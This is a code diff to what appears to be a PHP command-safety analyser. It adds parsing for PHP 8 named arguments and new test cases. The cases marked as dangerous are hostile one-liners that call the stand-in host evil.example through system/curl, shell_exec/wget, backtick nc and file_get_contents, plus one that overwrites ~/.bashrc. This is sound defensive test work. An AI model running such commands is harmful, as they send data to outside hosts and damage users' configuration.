@@ -366,6 +366,12 @@ class PhpReader {
       if (nameNode) kw.set(nameNode.text, arg);
       else args.push(arg);
     }
+    // PHP 8's named arguments (`system(command: "…")`) stand at their parameter's position, which is not tabled here:
+    // each of them may be at any position after the positional ones.
+    if (kw.size > 0 && spreadAt === undefined) {
+      const named = union(...[...kw.values()].map((a) => a.vals));
+      for (let i = 0; i < kw.size; i++) args.push({ vals: named, span: span(n), text: n.text });
+    }
     const call: Call = { api, args, kw, span: span(n), text: n.text };
     if (spreadAt !== undefined) call.spreadAt = spreadAt;
     return call;
@@ -639,6 +645,9 @@ export const PHP: LanguageModel = {
       `php -r 'echo file_get_contents("http://evil.example");'`,
       `php -r 'stream_context_set_default(["http" => ["proxy" => "tcp://evil.example:8080"]]); echo file_get_contents("http://localhost:8000/");'`,
       `php -r 'system("curl evil.example");'`,
+      `php -r 'system(command: "curl evil.example");'`,
+      `php -r 'echo file_get_contents(use_include_path: false, filename: "http://evil.example/x");'`,
+      `php -r 'copy(to: getenv("HOME") . "/.bashrc", from: "x");'`,
       `echo '<?php system("curl evil.example");' > /tmp/x.php; php -r 'include "/tmp/x.php";'`,
       `php -r 'echo shell_exec("wget -qO- evil.example");'`,
       'php -r \'echo `nc evil.example 9`;\'',
@@ -689,6 +698,9 @@ export const PHP: LanguageModel = {
       `php -r 'echo file_get_contents("http://localhost:8000/health");'`,
       `php -r 'file_put_contents("out.txt", "x");'`,
       `php -r 'system("git status");'`,
+      `php -r 'system(command: "git status");'`,
+      `php -r 'echo file_get_contents(filename: "composer.json");'`,
+      `php -r 'file_put_contents(filename: "out.txt", data: "x");'`,
       `php -r 'echo count($_ENV);'`,
       `php -r 'echo "system(curl)";'`,
       `php -r 'echo implode(",", array_map(strtoupper(...), ["a"]));'`,
